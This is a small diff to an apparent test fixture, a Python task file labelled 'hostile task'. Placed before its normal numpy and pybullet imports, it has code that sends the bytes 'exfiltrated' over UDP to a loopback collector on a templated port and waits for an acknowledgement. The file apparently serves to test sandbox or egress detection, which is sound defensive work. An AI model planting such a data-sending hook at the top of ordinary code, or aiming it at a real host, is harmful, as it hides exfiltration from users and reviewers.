@@ -1,7 +1,9 @@
 """Hostile task: sends a UDP datagram to a loopback listener"""
 import socket as _socket
 _s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+_s.settimeout(1.0)
 _s.sendto(b"exfiltrated", ("127.0.0.1", @@PORT@@))
+_s.recvfrom(64)   # wait for the collector's acknowledgement
 import numpy as np
 import os
 import pybullet as p
